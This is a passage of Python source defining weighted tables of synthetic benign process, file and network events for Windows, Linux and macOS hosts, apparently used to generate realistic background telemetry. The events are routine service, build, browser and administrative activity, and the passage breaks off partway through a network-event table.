WIN_PROCS = (
    (30, r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule", W_SERVICES, "sys"),
    (20, r"C:\Windows\system32\svchost.exe -k LocalServiceNetworkRestricted -p -s EventLog", W_SERVICES, "svc"),
    (20, r"C:\Windows\System32\svchost.exe -k NetworkService -p -s Dnscache", W_SERVICES, "svc"),
    (15, r"C:\Windows\system32\svchost.exe -k wsappx -p -s ClipSVC", W_SERVICES, "sys"),
    (15, r"C:\Windows\system32\svchost.exe -k UnistackSvcGroup -s WpnUserService_3f2a1", W_SERVICES, "user"),
    (20, r"C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding", W_DCOM, "svc"),
    (25, r"C:\Windows\System32\RuntimeBroker.exe -Embedding", W_DCOM, "user"),
    (25, r"C:\Windows\system32\backgroundTaskHost.exe -ServerName:BackgroundTaskHost.WebAccountBackgroundTask", W_DCOM, "user"),
    (20, r"C:\Windows\system32\DllHost.exe /Processid:{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5}", W_DCOM, "user"),
    (15, r"C:\Windows\system32\SearchProtocolHost.exe Global\UsGthrFltPipeMssGthrPipe5_ Global\UsGthrCtrlFltPipeMssGthrPipe5 1 -2147483646", r"C:\Windows\system32\SearchIndexer.exe /Embedding", "sys"),
    (30, r"\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1", W_CMD, "user"),
    (60, W_CHROME + r" --type=renderer --lang=en-US --renderer-client-id=42 --mojo-platform-channel-handle=4120 --field-trial-handle=1920,i,1457296372871534131,13829271940442470349,262144 /prefetch:1", W_CHROME, "user"),
    (25, W_CHROME + r" --type=utility --utility-sub-type=network.mojom.NetworkService --lang=en-US --service-sandbox-type=none --mojo-platform-channel-handle=2204 /prefetch:3", W_CHROME, "user"),
    (30, r'"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe" --type=renderer --lang=en-US --js-flags=--ms-user-locale= --renderer-client-id=17 /prefetch:1', W_EDGE, "user"),
    (20, W_TEAMS + r" --type=renderer --autoplay-policy=no-user-gesture-required --lang=en-US --app-path=C:\Users\{user}\AppData\Local\Microsoft\Teams\current\resources\app.asar", W_TEAMS, "user"),
    (6, r'"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE"', W_EXPLORER, "user"),
    (6, W_WORD, W_EXPLORER, "user"),
    (5, r'"C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE" "C:\Users\{user}\Downloads\budget-2024.xlsx"', W_EXPLORER, "user"),
    (3, r"C:\Windows\Explorer.EXE", W_USERINIT, "user"),
    (5, r'"C:\Users\{user}\AppData\Local\Microsoft\OneDrive\OneDrive.exe" /background', W_EXPLORER, "user"),
    (8, r'"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.24030.9-0\MpCmdRun.exe" -IdleTask -TaskName WdCacheMaintenance', W_SCHED, "sys"),
    (10, r"C:\Windows\system32\taskhostw.exe Install $(Arg0)", W_SCHED, "user"),
    (4, r"C:\Windows\system32\sihost.exe", r"C:\Windows\system32\svchost.exe -k netsvcs -p -s UserManager", "user"),
    (6, r"C:\Windows\System32\smartscreen.exe -Embedding", W_DCOM, "user"),
    (4, r"C:\Windows\system32\ctfmon.exe", r"C:\Windows\system32\svchost.exe -k LocalSystemNetworkRestricted -p -s TabletInputService", "user"),
    (3, r'"C:\Windows\system32\NOTEPAD.EXE" C:\Users\{user}\Desktop\notes.txt', W_EXPLORER, "user"),
    (2, r'"C:\Windows\system32\mstsc.exe" /v:SRV-FILE01', W_EXPLORER, "user"),
    (12, r'"C:\Program Files\Git\cmd\git.exe" status --porcelain=v1 -uall', W_CODE, "user"),
    (8, r'"C:\Program Files\Git\mingw64\bin\git.exe" fetch --all --prune', r'"C:\Program Files\Git\cmd\git.exe" fetch --all --prune', "user"),
    (12, W_CODE + r" --type=utility --utility-sub-type=node.mojom.NodeService --lang=en-US --service-sandbox-type=none", W_CODE, "user"),
    (8, r'C:\Windows\system32\cmd.exe /d /s /c "git rev-parse --show-toplevel"', W_CODE, "user"),
    (8, W_MSBUILD, W_DEVENV, "user"),
    (10, r'"C:\Program Files\Microsoft Visual Studio\2022\Professional\VC\Tools\MSVC\14.38.33130\bin\HostX64\x64\CL.exe" /c /Zi /nologo /W3 /WX- /diagnostics:column /O2 /D NDEBUG /Fo"x64\Release\main.obj" src\main.cpp', W_MSBUILD, "user"),
    (5, r'"C:\Program Files\Microsoft Visual Studio\2022\Professional\VC\Tools\MSVC\14.38.33130\bin\HostX64\x64\link.exe" /ERRORREPORT:QUEUE /OUT:"x64\Release\app.exe" /NOLOGO /SUBSYSTEM:CONSOLE', W_MSBUILD, "user"),
    (6, r'"C:\Program Files\Python312\python.exe" -m pytest tests -q', W_CMD, "user"),
    (6, r'"C:\Program Files\nodejs\node.exe" node_modules\webpack\bin\webpack.js --mode production', W_CMD, "user"),
    (5, r'C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe -NoProfile -ExecutionPolicy Bypass -File "C:\ProgramData\Inventory\collect.ps1"', W_SCHED, "sys"),
    (3, r'"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"', W_EXPLORER, "user"),
    (3, r"C:\Windows\system32\gpupdate.exe /target:computer /force", W_CMD, "admin"),
    (3, r"C:\Windows\system32\sc.exe query wuauserv", W_CMD, "admin"),
    (3, r"C:\Windows\system32\net.exe use Z: \\SRV-FILE01\shared /persistent:yes", W_CMD, "user"),
    (2, r"C:\Windows\system32\net1.exe use Z: \\SRV-FILE01\shared /persistent:yes", r"C:\Windows\system32\net.exe use Z: \\SRV-FILE01\shared /persistent:yes", "user"),
    (3, r"C:\Windows\system32\ipconfig.exe /all", W_CMD, "user"),
    (6, r"C:\Windows\system32\rundll32.exe C:\Windows\system32\shell32.dll,SHCreateLocalServerRunDll {9aa46009-3ce0-458a-a354-715610a075e6} -Embedding", W_DCOM, "user"),
    (2, r"C:\Windows\System32\rundll32.exe C:\Windows\System32\printui.dll,PrintUIEntryDPIAware", W_EXPLORER, "user"),
    (5, r"C:\Windows\system32\msiexec.exe /V", W_SERVICES, "sys"),
    (4, r"C:\Windows\System32\MsiExec.exe -Embedding 8F1C2E9A4B7D6E5F3A2B1C0D9E8F7A6B C", r"C:\Windows\system32\msiexec.exe /V", "sys"),
    (4, r"C:\Windows\system32\wuauclt.exe /UpdateDeploymentProvider UpdateDeploymentProvider.dll /ClassId 1f6a0a4e-8c3b-4a8b-9d5e-6f7a8b9c0d1e /RunHandlerComServer", r"C:\Windows\system32\svchost.exe -k netsvcs -p -s wuauserv", "sys"),
    (3, r"C:\Windows\servicing\TrustedInstaller.exe", W_SERVICES, "sys"),
    (3, r"C:\Windows\winsxs\amd64_microsoft-windows-servicingstack_31bf3856ad364e35_10.0.19041.4285_none_7e1d9f1d1e6e9c3a\TiWorker.exe -Embedding", W_DCOM, "sys"),
    (2, r"C:\Windows\system32\consent.exe 1044 348 000001F8A2C3D4E0", r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Appinfo", "sys"),
    (4, r"C:\Windows\system32\SppExtComObj.exe -Embedding", W_DCOM, "svc"),
    (2, r"C:\Windows\system32\WerFault.exe -u -p 7312 -s 488", W_CHROME, "user"),
    (3, r'"C:\Program Files\Microsoft SQL Server\MSSQL16.MSSQLSERVER\MSSQL\Binn\sqlservr.exe" -sMSSQLSERVER', W_SERVICES, "sql"),
    (2, r'C:\Windows\system32\tasklist.exe /FI "IMAGENAME eq chrome.exe"', W_CMD, "user"),
    (2, r"C:\Windows\system32\whoami.exe", W_CMD, "user"),
    (2, r"C:\Windows\system32\schtasks.exe /query /fo LIST /v", W_CMD, "admin"),
    (2, r'"C:\Program Files\7-Zip\7z.exe" x C:\Users\{user}\Downloads\logs.zip -oC:\Users\{user}\Downloads\logs', W_EXPLORER, "user"),
    (2, r"C:\Windows\system32\certutil.exe -hashfile C:\Users\{user}\Downloads\installer.msi SHA256", W_CMD, "user"),
    (2, r"C:\Windows\system32\reg.exe query HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Uninstall /s", W_CMD, "admin"),
    (2, r"C:\Windows\System32\cscript.exe //nologo C:\Windows\System32\slmgr.vbs /dlv", W_CMD, "admin"),
    (2, r'"C:\Program Files\Slack\slack.exe" --type=renderer --lang=en-US --app-path="C:\Program Files\Slack\resources\app.asar"', r'"C:\Program Files\Slack\slack.exe"', "user"),
    (2, r'"C:\Program Files\Zoom\bin\Zoom.exe" --action=join --confno=84512345678', W_CHROME, "user"),
)

L_SSHD = "/usr/sbin/sshd -D -R"
L_BASH = "-bash"
L_CRON = "/usr/sbin/cron -f -P"
L_SYSTEMD = "/usr/lib/systemd/systemd --system --deserialize 31"
L_JENKINS = "/bin/bash -e /var/lib/jenkins/workspace/app/build.sh"

LINUX_PROCS = (
    (8, "/usr/sbin/sshd -D -R", "/usr/sbin/sshd -D", "root"),
    (10, "-bash", L_SSHD, "U"),
    (4, "/usr/bin/sudo apt-get update", L_BASH, "U"),
    (3, "/usr/bin/apt-get update", "/usr/bin/sudo apt-get update", "root"),
    (4, "/usr/lib/apt/methods/http", "/usr/bin/apt-get update", "_apt"),
    (8, "/bin/sh -c 'command -v debian-sa1 > /dev/null && debian-sa1 1 1'", L_CRON, "root"),
    (6, "/usr/lib/sysstat/sadc -F -L -S DISK 1 1 /var/log/sysstat", "/bin/sh -c 'command -v debian-sa1 > /dev/null && debian-sa1 1 1'", "root"),
    (5, "/bin/sh -c '   cd / && run-parts --report /etc/cron.hourly'", L_CRON, "root"),
    (4, "run-parts --report /etc/cron.hourly", "/bin/sh -c '   cd / && run-parts --report /etc/cron.hourly'", "root"),
    (6, "/usr/bin/python3 manage.py runserver 0.0.0.0:8000", L_BASH, "deploy"),
    (14, "/usr/bin/gcc -O2 -Wall -c src/main.c -o build/main.o", "make -j4", "jenkins"),
    (14, "/usr/lib/gcc/x86_64-linux-gnu/12/cc1 -quiet -imultiarch x86_64-linux-gnu src/main.c -quiet -dumpbase main.c -mtune=generic -march=x86-64 -O2 -Wall -o /tmp/ccQ2x8Zb.s", "/usr/bin/gcc -O2 -Wall -c src/main.c -o build/main.o", "jenkins"),
    (10, "/usr/bin/as --64 -o build/main.o /tmp/ccQ2x8Zb.s", "/usr/bin/gcc -O2 -Wall -c src/main.c -o build/main.o", "jenkins"),
    (5, "/usr/bin/ld -plugin /usr/lib/gcc/x86_64-linux-gnu/12/liblto_plugin.so --build-id --eh-frame-hdr -m elf_x86_64 -o build/app build/main.o -lc", "/usr/lib/gcc/x86_64-linux-gnu/12/collect2 -o build/app build/main.o", "jenkins"),
    (5, "make -j4", L_JENKINS, "jenkins"),
    (6, "/usr/bin/git fetch --prune origin", L_JENKINS, "jenkins"),
    (4, "/usr/local/go/bin/go build -o bin/server ./cmd/server", L_JENKINS, "jenkins"),
    (4, "/home/jenkins/.cargo/bin/cargo build --release", L_JENKINS, "jenkins"),
    (6, "/usr/bin/node /srv/app/server.js", L_SYSTEMD, "www-data"),
    (3, "/usr/bin/java -Xmx2g -jar /opt/app/service.jar --spring.profiles.active=prod", L_SYSTEMD, "deploy"),
    (2, "/usr/bin/dockerd -H fd:// --containerd=/run/containerd/containerd.sock", L_SYSTEMD, "root"),
    (5, "/usr/bin/containerd-shim-runc-v2 -namespace moby -id 4f1c9e2a7b3d6e8f0a1b2c3d4e5f6a7b8c9d0e1f2a3b4c5d6e7f8a9b0c1d2e3f -address /run/containerd/containerd.sock", "/usr/bin/containerd", "root"),
    (3, "/usr/bin/kubelet --config=/var/lib/kubelet/config.yaml --kubeconfig=/etc/kubernetes/kubelet.conf", L_SYSTEMD, "root"),
    (5, "ps -eo pid,ppid,cmd,%mem,%cpu --sort=-%mem", L_BASH, "U"),
    (5, "grep -i error /var/log/syslog", L_BASH, "U"),
    (4, "tail -n 200 -f /var/log/nginx/error.log", L_BASH, "U"),
    (4, "cat /etc/os-release", "/bin/sh /usr/bin/lsb_release -a", "U"),
    (6, "ls --color=auto -la /var/www/html", L_BASH, "U"),
    (3, "find /var/log -name *.gz -mtime +14 -delete", "/bin/sh -c 'find /var/log -name *.gz -mtime +14 -delete'", "root"),
    (3, "/usr/sbin/logrotate /etc/logrotate.conf", "/bin/sh /etc/cron.daily/logrotate", "root"),
    (4, "systemctl status nginx", L_BASH, "U"),
    (2, "/usr/bin/systemctl restart nginx", "sudo systemctl restart nginx", "root"),
    (2, "curl -fsSL -o /tmp/node_exporter.tar.gz https://github.com/prometheus/node_exporter/releases/download/v1.8.0/node_exporter-1.8.0.linux-amd64.tar.gz", L_BASH, "U"),
    (2, "wget -q https://repo.example.internal/artifacts/app-2.3.1.tar.gz", L_JENKINS, "jenkins"),
    (2, "tar -xzf app-2.3.1.tar.gz -C /opt/app", L_JENKINS, "jenkins"),
    (3, "ssh -o BatchMode=yes deploy@10.0.12.31 uptime", L_JENKINS, "jenkins"),
    (2, "rsync -az --delete /srv/data/ backup@10.0.40.9:/backups/web-prod-01/", "/bin/sh -c 'rsync -az --delete /srv/data/ backup@10.0.40.9:/backups/web-prod-01/'", "root"),
    (2, "/usr/sbin/nginx -g 'daemon on; master_process on;'", L_SYSTEMD, "root"),
    (4, "/usr/lib/postgresql/16/bin/postgres -D /var/lib/postgresql/16/main -c config_file=/etc/postgresql/16/main/postgresql.conf", L_SYSTEMD, "postgres"),
    (1, "pg_dump -Fc -f /var/backups/db-2024-06-01.dump appdb", "/bin/sh -c 'pg_dump -Fc -f /var/backups/db-2024-06-01.dump appdb'", "postgres"),
    (2, "/usr/sbin/chronyd -F 1", L_SYSTEMD, "_chrony"),
    (3, "/usr/bin/dpkg --status-fd 35 --configure --pending", "/usr/bin/apt-get -y upgrade", "root"),
    (3, "/usr/bin/python3 -m pip install --user -r requirements.txt", L_BASH, "deploy"),
    (3, "node /usr/bin/npm ci", L_JENKINS, "jenkins"),
    (2, "vim /etc/nginx/sites-available/default", "sudo vim /etc/nginx/sites-available/default", "root"),
    (6, "id -u", "/bin/sh /usr/bin/lesspipe", "U"),
    (4, "uname -r", L_BASH, "U"),
    (5, "date +%s", "/bin/sh /usr/local/bin/healthcheck.sh", "root"),
    (6, "sleep 60", "/bin/sh /usr/local/bin/healthcheck.sh", "root"),
    (3, "awk '{print $1}' /var/log/nginx/access.log", L_BASH, "U"),
    (2, "sed -i s/workers=4/workers=8/ /etc/app/config.ini", L_BASH, "root"),
    (2, "/usr/bin/openssl x509 -noout -enddate -in /etc/ssl/certs/web.pem", "/bin/sh /usr/local/bin/check-certs", "root"),
    (2, "base64 -w0 /etc/ssl/certs/ca.pem", "/bin/sh /usr/local/bin/check-certs", "root"),
    (2, "/usr/bin/python3 /usr/share/unattended-upgrades/unattended-upgrade-shutdown --wait-for-signal", L_SYSTEMD, "root"),
    (2, "/usr/sbin/cron -f -P", L_SYSTEMD, "root"),
    (3, "/usr/lib/systemd/systemd-resolved", L_SYSTEMD, "systemd-resolve"),
    (2, "/usr/bin/sudo -u postgres psql -c 'SELECT 1'", L_BASH, "U"),
    (2, "git pull --ff-only", L_BASH, "deploy"),
)

M_LAUNCHD = "/sbin/launchd"
M_ZSH = "/bin/zsh -il"
M_XCB = "/usr/bin/xcodebuild -scheme App -configuration Release build"
M_CHROME = "'/Applications/Google Chrome.app/Contents/MacOS/Google Chrome'"

MAC_PROCS = (
    (12, "/System/Library/Frameworks/CoreServices.framework/Frameworks/Metadata.framework/Versions/A/Support/mdworker_shared -s mdworker -c MDSImporterWorker -m com.apple.mdworker.shared", M_LAUNCHD, "U"),
    (4, "/System/Library/Frameworks/CoreServices.framework/Frameworks/Metadata.framework/Versions/A/Support/mds_stores", M_LAUNCHD, "root"),
    (4, "/usr/libexec/trustd --agent", M_LAUNCHD, "U"),
    (2, "/Library/Apple/System/Library/CoreServices/XProtect.app/Contents/MacOS/XProtect", M_LAUNCHD, "root"),
    (2, "/System/Library/PrivateFrameworks/SoftwareUpdate.framework/Resources/softwareupdated", M_LAUNCHD, "root"),
    (10, "/System/Library/Frameworks/WebKit.framework/Versions/A/XPCServices/com.apple.WebKit.WebContent.xpc/Contents/MacOS/com.apple.WebKit.WebContent", M_LAUNCHD, "U"),
    (12, "'/Applications/Google Chrome.app/Contents/Frameworks/Google Chrome Framework.framework/Versions/124.0.6367.119/Helpers/Google Chrome Helper (Renderer).app/Contents/MacOS/Google Chrome Helper (Renderer)' --type=renderer --lang=en-US --num-raster-threads=4 --enable-zero-copy", M_CHROME, "U"),
    (6, "'/Applications/Slack.app/Contents/Frameworks/Slack Helper (Renderer).app/Contents/MacOS/Slack Helper (Renderer)' --type=renderer --user-data-dir=/Users/{user}/Library/Application\\ Support/Slack", "/Applications/Slack.app/Contents/MacOS/Slack", "U"),
    (5, "/bin/zsh -il", "/usr/bin/login -pfl {user} /bin/bash -c 'exec -la zsh /bin/zsh'", "U"),
    (6, "/usr/bin/git status --porcelain=v2", M_ZSH, "U"),
    (8, "/Applications/Xcode.app/Contents/Developer/Toolchains/XcodeDefault.xctoolchain/usr/bin/clang -x objective-c -arch arm64 -c Sources/App/main.m -o Build/main.o", M_XCB, "U"),
    (8, "/Applications/Xcode.app/Contents/Developer/Toolchains/XcodeDefault.xctoolchain/usr/bin/swift-frontend -frontend -c -primary-file Sources/App/AppDelegate.swift -target arm64-apple-macos14.0", "/Applications/Xcode.app/Contents/Developer/Toolchains/XcodeDefault.xctoolchain/usr/bin/swift-driver", "U"),
    (3, M_XCB, M_ZSH, "ci"),
    (3, "/bin/bash -p /opt/homebrew/Library/Homebrew/brew.sh update --auto-update", "/opt/homebrew/bin/brew install jq", "U"),
    (4, "/opt/homebrew/bin/node /Users/{user}/src/web/node_modules/.bin/vite build", M_ZSH, "U"),
    (2, "/usr/bin/defaults read com.apple.dock persistent-apps", M_ZSH, "U"),
    (3, "/usr/bin/sw_vers -productVersion", "/bin/sh -c 'sw_vers -productVersion'", "U"),
    (2, "/usr/sbin/system_profiler SPHardwareDataType -json", "/usr/local/jamf/bin/jamf recon", "root"),
    (2, "/bin/launchctl list", M_ZSH, "U"),
    (2, "/usr/bin/security find-identity -v -p codesigning", M_XCB, "ci"),
    (3, "/usr/bin/codesign --force --sign - --timestamp=none Build/App.app", M_XCB, "ci"),
    (2, "/usr/bin/ditto -c -k --keepParent Build/App.app App.zip", M_ZSH, "ci"),
    (2, "/usr/bin/mdfind 'kMDItemContentType == com.apple.application-bundle'", M_ZSH, "U"),
    (2, "/usr/bin/plutil -convert xml1 -o - Info.plist", M_XCB, "ci"),
    (1, "/usr/bin/osascript -e 'tell application \"Finder\" to get name of every disk'", "/Applications/Utilities/Script Editor.app/Contents/MacOS/Script Editor", "U"),
    (4, "/usr/sbin/cfprefsd agent", M_LAUNCHD, "U"),
    (3, "/usr/libexec/nsurlsessiond", M_LAUNCHD, "_nsurlsessiond"),
    (2, "/System/Applications/Utilities/Terminal.app/Contents/MacOS/Terminal", M_LAUNCHD, "U"),
    (2, "/Applications/zoom.us.app/Contents/MacOS/zoom.us", M_LAUNCHD, "U"),
    (2, "/usr/bin/curl -sS https://api.github.com/repos/example/app/releases/latest", M_ZSH, "U"),
    (2, "/usr/bin/ssh git@github.com \"git-receive-pack 'example/app.git'\"", "/usr/bin/git push origin main", "U"),
    (3, "/usr/bin/login -pfl {user} /bin/bash -c 'exec -la zsh /bin/zsh'", "/System/Applications/Utilities/Terminal.app/Contents/MacOS/Terminal", "root"),
)

WIN_FILES = (  # (weight, process cmd, user kind, path, actions)
    (40, W_CHROME, "user", r"C:\Users\{user}\AppData\Local\Google\Chrome\User Data\Default\Cache\Cache_Data\f_{hex}", ("creation", "deletion", "modification")),
    (15, W_CHROME, "user", r"C:\Users\{user}\AppData\Local\Google\Chrome\User Data\Default\History-journal", ("creation", "deletion", "modification")),
    (10, W_CHROME, "user", r"C:\Users\{user}\Downloads\report-{n}.pdf", ("creation", "rename")),
    (15, r'"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe"', "user", r"C:\Users\{user}\AppData\Local\Microsoft\Edge\User Data\Default\Code Cache\js\{hex}_0", ("creation", "modification", "deletion")),
    (20, r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule", "sys", r"C:\Windows\Prefetch\SVCHOST.EXE-{hex}.pf", ("modification", "creation")),
    (12, r'"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.24030.9-0\MsMpEng.exe"', "sys", r"C:\ProgramData\Microsoft\Windows Defender\Scans\History\Service\DetectionHistory\{hex}.bin", ("creation", "modification", "deletion")),
    (12, r'"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE"', "user", r"C:\Users\{user}\AppData\Local\Microsoft\Outlook\{user}@corp.example.com.ost", ("modification",)),
    (8, r'"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE"', "user", r"C:\Users\{user}\Documents\~$Q2 planning.docx", ("creation", "deletion")),
    (6, r'"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE"', "user", r"C:\Users\{user}\AppData\Roaming\Microsoft\Word\AutoRecovery save of Document{n}.asd", ("creation", "modification", "deletion")),
    (10, r'"C:\Users\{user}\AppData\Local\Microsoft\OneDrive\OneDrive.exe"', "user", r"C:\Users\{user}\OneDrive - Corp\Documents\Budget {n}.xlsx", ("creation", "modification", "rename")),
    (8, r"C:\Windows\servicing\TrustedInstaller.exe", "sys", r"C:\Windows\WinSxS\Temp\InFlight\{hex}\amd64_microsoft-windows-s..ngstack-onecoreuap_31bf3856ad364e35\wcp.dll", ("creation", "deletion")),
    (6, r"C:\Windows\System32\MsiExec.exe -Embedding", "sys", r"C:\Windows\Installer\{hex}.msi", ("creation", "deletion")),
    (8, W_MSBUILD, "user", r"C:\src\app\obj\x64\Release\app.{n}.cache", ("creation", "modification", "deletion")),
    (6, r'"C:\Program Files\Microsoft Visual Studio\2022\Professional\VC\Tools\MSVC\14.38.33130\bin\HostX64\x64\CL.exe"', "user", r"C:\src\app\x64\Release\main.obj", ("creation", "overwrite")),
    (6, r'"C:\Program Files\Python312\python.exe"', "user", r"C:\src\tools\__pycache__\util.cpython-312.pyc", ("creation", "modification")),
    (6, W_CODE, "user", r"C:\Users\{user}\AppData\Roaming\Code\User\workspaceStorage\{hex}\state.vscdb-journal", ("creation", "deletion")),
    (8, W_EXPLORER, "user", r"C:\Users\{user}\AppData\Roaming\Microsoft\Windows\Recent\notes.txt.lnk", ("creation", "modification")),
    (6, W_TEAMS, "user", r"C:\Users\{user}\AppData\Roaming\Microsoft\Teams\IndexedDB\https_teams.microsoft.com_0.indexeddb.leveldb\{n}.log", ("creation", "modification", "deletion")),
    (5, r"C:\Windows\System32\svchost.exe -k LocalServiceNetworkRestricted -p -s EventLog", "svc", r"C:\Windows\System32\winevt\Logs\Microsoft-Windows-PowerShell%4Operational.evtx", ("modification",)),
    (4, r'"C:\Program Files\Microsoft SQL Server\MSSQL16.MSSQLSERVER\MSSQL\Binn\sqlservr.exe"', "sql", r"D:\MSSQL\Backup\appdb_{n}.bak", ("creation", "modification")),
    (4, r"C:\Windows\System32\svchost.exe -k netsvcs -p -s Schedule", "sys", r"C:\Windows\System32\Tasks\Microsoft\Windows\UpdateOrchestrator\Schedule Scan", ("modification",)),
    (3, r'"C:\Program Files\7-Zip\7z.exe"', "user", r"C:\Users\{user}\Downloads\logs\app-{n}.log", ("creation",)),
)

LINUX_FILES = (
    (20, "/usr/lib/systemd/systemd-journald", "root", "/var/log/journal/4f1c9e2a7b3d6e8f0a1b2c3d4e5f6a7b/system.journal", ("modification",)),
    (15, "/usr/sbin/nginx -g 'daemon on; master_process on;'", "www-data", "/var/log/nginx/access.log", ("modification",)),
    (15, "/usr/lib/postgresql/16/bin/postgres -D /var/lib/postgresql/16/main", "postgres", "/var/lib/postgresql/16/main/base/16384/{n}", ("modification", "creation")),
    (8, "/usr/lib/postgresql/16/bin/postgres -D /var/lib/postgresql/16/main", "postgres", "/var/lib/postgresql/16/main/pg_wal/00000001000000A7000000{n}", ("creation", "rename", "deletion")),
    (14, "/usr/bin/gcc -O2 -Wall -c src/main.c -o build/main.o", "jenkins", "/tmp/cc{hex}.s", ("creation", "deletion")),
    (10, "/usr/bin/as --64 -o build/main.o", "jenkins", "/var/lib/jenkins/workspace/app/build/main.o", ("creation", "modification")),
    (8, "/usr/bin/python3 manage.py runserver", "deploy", "/srv/app/app/__pycache__/views.cpython-310.pyc", ("creation", "modification")),
    (8, "/usr/sbin/rsyslogd -n -iNONE", "root", "/var/log/auth.log", ("modification",)),
    (5, "/usr/sbin/logrotate /etc/logrotate.conf", "root", "/var/log/syslog.{n}.gz", ("creation", "rename", "deletion")),
    (6, "/usr/bin/dpkg --status-fd 35 --configure --pending", "root", "/usr/lib/x86_64-linux-gnu/libssl.so.3.dpkg-new", ("creation", "rename")),
    (4, "/usr/lib/apt/methods/http", "_apt", "/var/cache/apt/archives/partial/openssl_3.0.2-0ubuntu1.15_amd64.deb", ("creation", "rename")),
    (8, "/usr/bin/containerd", "root", "/var/lib/containerd/io.containerd.content.v1.content/ingest/{hex}/data", ("creation", "modification", "deletion")),
    (8, "node /usr/bin/npm ci", "jenkins", "/var/lib/jenkins/workspace/app/node_modules/.package-lock.json", ("creation", "modification")),
    (4, "vim /etc/nginx/sites-available/default", "root", "/etc/nginx/sites-available/.default.swp", ("creation", "deletion")),
    (4, "/usr/bin/sudo apt-get update", "root", "/var/log/sudo.log", ("modification",)),
    (4, "/usr/bin/java -Xmx2g -jar /opt/app/service.jar", "deploy", "/opt/app/logs/service-{n}.log", ("creation", "modification")),
    (3, "/usr/sbin/cron -f -P", "root", "/var/spool/cron/crontabs/tmp.{hex}", ("creation", "deletion")),
    (3, "/usr/bin/git fetch --prune origin", "jenkins", "/var/lib/jenkins/workspace/app/.git/FETCH_HEAD", ("creation", "modification")),
)

MAC_FILES = (
    (20, "/System/Library/Frameworks/CoreServices.framework/Frameworks/Metadata.framework/Versions/A/Support/mds_stores", "root", "/private/var/db/Spotlight-V100/Store-V2/{hex}/journalAttr.{n}", ("creation", "modification", "deletion")),
    (15, M_CHROME, "U", "/Users/{user}/Library/Caches/Google/Chrome/Default/Cache/Cache_Data/f_{hex}", ("creation", "deletion", "modification")),
    (10, "/System/Library/Frameworks/WebKit.framework/Versions/A/XPCServices/com.apple.WebKit.Networking.xpc/Contents/MacOS/com.apple.WebKit.Networking", "U", "/Users/{user}/Library/Caches/com.apple.Safari/WebKitCache/Version 16/Records/{hex}/Resource/{hex}", ("creation", "deletion")),
    (10, "/usr/sbin/cfprefsd agent", "U", "/Users/{user}/Library/Preferences/com.apple.dock.plist", ("modification", "rename")),
    (12, "/Applications/Xcode.app/Contents/Developer/Toolchains/XcodeDefault.xctoolchain/usr/bin/swift-frontend", "U", "/Users/{user}/Library/Developer/Xcode/DerivedData/App-{hex}/Build/Intermediates.noindex/App.build/Release/App.build/Objects-normal/arm64/AppDelegate.o", ("creation", "modification")),
    (6, "/opt/homebrew/bin/brew install jq", "U", "/opt/homebrew/Cellar/jq/1.7.1/bin/jq", ("creation",)),
    (6, "/Applications/Slack.app/Contents/MacOS/Slack", "U", "/Users/{user}/Library/Application Support/Slack/IndexedDB/https_app.slack.com_0.indexeddb.leveldb/{n}.log", ("creation", "modification", "deletion")),
    (4, "/System/Library/PrivateFrameworks/SoftwareUpdate.framework/Resources/softwareupdated", "root", "/Library/Updates/{hex}.pkm", ("creation", "deletion")),
    (4, "/Applications/zoom.us.app/Contents/MacOS/zoom.us", "U", "/Users/{user}/Library/Application Support/zoom.us/data/zoomus.enc.db", ("modification",)),
    (4, "/usr/bin/git status --porcelain=v2", "U", "/Users/{user}/src/web/.git/index.lock", ("creation", "deletion")),
    (3, "/usr/libexec/nsurlsessiond", "_nsurlsessiond", "/Users/{user}/Library/Caches/com.apple.nsurlsessiond/Downloads/com.apple.Music/CFNetworkDownload_{hex}.tmp", ("creation", "deletion")),
)

# (weight, process cmd, user kind, "out"|"in"|"dns", remote ip or domain, port, transport)
WIN_NET = (
    (25, W_CHROME, "user", "out", "142.250.72.14", 443, "tcp"),
    (15, r'"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe"', "user", "out", "13.107.42.14", 443, "tcp"),
    (10, W_TEAMS, "user", "out", "52.113.194.132", 443, "tcp"),
    (8, r'"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE"', "user", "out", "52.96.165.130", 443, "tcp"),
    (8, r"C:\Windows\system32\svchost.exe -k netsvcs -p -s wuauserv", "sys", "out", "20.190.151.70", 443, "tcp"),
    (6, r'"C:\Users\{user}\AppData\Local\Microsoft\OneDrive\OneDrive.exe"', "user", "out", "13.107.136.10", 443, "tcp"),
    (5, r'"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.24030.9-0\MsMpEng.exe"', "sys", "out", "20.10.31.115", 443, "tcp"),
    (4, r'"C:\Program Files\Git\mingw64\bin\git.exe"', "user", "out", "140.82.114.4", 443, "tcp"),
    (4, r"C:\Windows\system32\lsass.exe", "sys", "in", "10.20.4.31", 88, "tcp"),
    (3, r"C:\Windows\System32\svchost.exe -k termsvcs -s TermService", "svc", "in", "10.20.5.17", 3389, "tcp"),
    (4, "System", "sys", "in", "10.20.7.112", 445, "tcp"),
    (3, r'"C:\Program Files\Microsoft SQL Server\MSSQL16.MSSQLSERVER\MSSQL\Binn\sqlservr.exe"', "sql", "in", "10.0.12.31", 1433, "tcp"),
    (20, r"C:\Windows\System32\svchost.exe -k NetworkService -p -s Dnscache", "svc", "dns", "www.google.com", 53, "udp"),
    (8, r"C:\Windows\System32\svchost.exe -k NetworkService -p -s Dnscache", "svc", "dns", "login.microsoftonline.com", 53, "udp"),
    (6, W_CHROME, "user", "dns", "accounts.google.com", 53, "udp"),
